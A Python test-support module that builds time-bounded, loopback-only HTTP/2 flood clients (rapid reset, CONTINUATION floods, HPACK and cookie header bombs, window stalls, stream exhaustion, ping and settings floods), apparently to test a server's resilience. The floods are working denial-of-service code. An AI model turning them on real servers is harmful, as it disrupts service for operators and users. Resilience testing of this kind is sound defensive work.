"""Hostile HTTP/2 clients, one flood each, made with ``hyperframe`` and ``hpack``; bounded in time, loopback only.

``python -m tests.support.h2_attacks PORT serve`` is their host; ``… PORT NAME SECONDS`` runs one and prints a line of JSON: what was written, when and
how the first connection ended. A process of its own, so that it does not slow the client that measures.
"""

from __future__ import annotations

import asyncio
import json
import socket
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.support.h2_client import PREFACE

Pieces = Iterator[bytes]
PAUSE_S = 0.05  # before another connection
CHUNK = 64 * 1024  # about so much is written at a time

GET = [(":method", "GET"), (":scheme", "http"), (":path", "/ok"), (":authority", "a")]
POST = [(":method", "POST"), (":scheme", "http"), (":path", "/post"), (":authority", "a")]
BIG = [(":method", "GET"), (":scheme", "http"), (":path", "/big"), (":authority", "a")]


def head(stream: int, block: bytes, end: bool = True, whole: bool = True) -> bytes:
    frame = HeadersFrame(stream, block)
    if whole:
        frame.flags.add("END_HEADERS")
    if end:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def settings(**values: int) -> bytes:
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: values["window"]}).serialize()


def odd() -> Iterator[int]:
    yield from range(1, 2**31, 2)


def rapid_reset() -> Pieces:
    block = Encoder().encode(GET)
    for stream in odd():
        yield head(stream, block) + RstStreamFrame(stream, 8).serialize()


def made_you_reset() -> Pieces:
    """Our own resets: a window beyond 2^31-1 on each stream."""
    block = Encoder().encode(POST)
    for stream in odd():
        yield head(stream, block, end=False) + WindowUpdateFrame(stream, 2**31 - 1).serialize()


def bad_request_reset() -> Pieces:
    block = Encoder().encode([*GET, ("connection", "x")])
    for stream in odd():
        yield head(stream, block)


def continuation(size: int) -> Pieces:
    yield head(1, Encoder().encode(GET), whole=False)
    block = Encoder().encode([("x" * 40, "y" * max(0, size - 60))]) if size else b""
    while True:
        yield ContinuationFrame(1, block).serialize()


def repeated(frame: bytes, opened: bool = False) -> Pieces:
    if opened:
        yield head(1, Encoder().encode(POST), end=False)
    while True:
        yield frame


def padding_only() -> Pieces:
    frame = DataFrame(1, b"", pad_length=255)
    frame.flags.add("PADDED")
    return repeated(frame.serialize(), opened=True)


def hpack_bomb() -> Pieces:
    """One long field in the table, then heads that name it over and over."""
    encoder = Encoder()
    field = ("x-long", "y" * 3900)
    yield head(1, encoder.encode([*GET, field]))
    block = encoder.encode([*GET, *[field] * 200])
    for stream in odd():
        if stream > 1:
            yield head(stream, block)


def cookie_crumbs() -> Pieces:
    encoder = Encoder()
    yield head(1, encoder.encode([*GET, ("cookie", "a=b")]))
    block = encoder.encode([*GET, *[("cookie", "a=b")] * 4000])
    for stream in odd():
        if stream > 1:
            yield head(stream, block)


def header_list_1mib() -> Pieces:
    block = Encoder().encode([*GET, *[(f"x-{number}", "y" * 1000) for number in range(1000)]], huffman=False)
    for stream in odd():
        yield head(stream, block[:16000], whole=False)
        for at in range(16000, len(block), 16000):
            frame = ContinuationFrame(stream, block[at : at + 16000])
            if at + 16000 >= len(block):
                frame.flags.add("END_HEADERS")
            yield frame.serialize()


def zero_window_stall() -> Pieces:
    yield settings(window=0)
    block = Encoder().encode(BIG)
    for stream in odd():
        if stream > 2 * 1000:
            break
        yield head(stream, block)
    while True:
        yield b""


def one_byte_window() -> Pieces:
    yield settings(window=0)
    block = Encoder().encode(BIG)
    for stream in range(1, 200, 2):
        yield head(stream, block)
    while True:
        yield b"".join(WindowUpdateFrame(stream, 1).serialize() for stream in range(1, 200, 2))


def open_streams() -> Pieces:
    block = Encoder().encode(POST)
    for stream in odd():
        if stream > 2 * 5000:
            break
        yield head(stream, block, end=False)
    while True:
        yield b""


def data_past_window() -> Pieces:
    yield head(1, Encoder().encode(POST), end=False)
    frame = DataFrame(1, b"x" * 16384).serialize()
    while True:
        yield frame


def half_frames() -> Pieces:
    yield head(1, Encoder().encode(GET))[:5]
    while True:
        yield b""


ATTACKS: dict[str, Callable[[], Pieces]] = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "bad-request-reset": bad_request_reset,
    "continuation-16k": lambda: continuation(16000),
    "continuation-small": lambda: continuation(100),
    "continuation-empty": lambda: continuation(0),
    "settings": lambda: repeated(settings(window=65535)),
    "ping": lambda: repeated(PingFrame(0, b"12345678").serialize()),
    "ping-reading": lambda: repeated(PingFrame(0, b"12345678").serialize()),
    "empty-data": lambda: repeated(DataFrame(1, b"").serialize(), opened=True),
    "padding-only-data": padding_only,
    "priority": lambda: repeated(PriorityFrame(1, depends_on=3, stream_weight=9).serialize()),
    "window-update": lambda: repeated(WindowUpdateFrame(0, 1).serialize()),
    "unknown-frames": lambda: repeated(b"\0\0\1\xf0\0\0\0\0\1x"),
    "hpack-bomb": hpack_bomb,
    "cookie-crumbs": cookie_crumbs,
    "header-list-1mib": header_list_1mib,
    "zero-window-stall": zero_window_stall,
    "one-byte-window": one_byte_window,
    "open-streams": open_streams,
    "data-past-window": data_past_window,
    "half-frames": half_frames,
}
READING = {"ping-reading", "one-byte-window", "rapid-reset"}


def _flood(port: int, pieces: Pieces, until: float, reads: bool) -> tuple[int, bool]:
    """One connection: (bytes written, whether the peer ended it)."""
    written = 0
    with socket.create_connection(("127.0.0.1", port), 2) as sock:
        sock.setblocking(False)
        waiting = PREFACE + SettingsFrame(0).serialize()
        while time.monotonic() < until:
            while len(waiting) < CHUNK:
                piece = next(pieces)
                if not piece:
                    break
                waiting += piece
            try:
                if waiting:
                    sent = sock.send(waiting)
                    waiting = waiting[sent:]
                    written += sent
                else:
                    time.sleep(0.02)
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                return written, True
            try:
                if (reads or not waiting) and not sock.recv(65536):
                    return written, True
            except BlockingIOError:
                pass
            except OSError:
                return written, True
    return written, False


def attack(port: int, name: str, seconds: float) -> dict[str, object]:
    """The flood, over as many connections as it takes. ended_s: when the peer ended the first, None: it did not."""
    began = time.monotonic()
    until = began + seconds
    ended_s: float | None = None
    connections = written = first = 0
    while time.monotonic() < until:
        connections += 1
        try:
            count, ended = _flood(port, ATTACKS[name](), until, name in READING)
        except OSError:
            break
        written += count
        if connections == 1:
            first = count
            ended_s = round(time.monotonic() - began, 3) if ended else None
        time.sleep(PAUSE_S)
    return {"connections": connections, "written": written, "first": first, "ended_s": ended_s}


async def _serve(port: int) -> None:
    """A host for the floods' requests: a mebibyte for /big, nothing for others. A process of its own as well."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        if head.startswith(b"GET /big"):
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 1048576\r\n\r\n" + b"b" * 1048576)
        await reader.read()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", port, backlog=1024)
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    if sys.argv[2] == "serve":
        asyncio.run(_serve(int(sys.argv[1])))
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))))
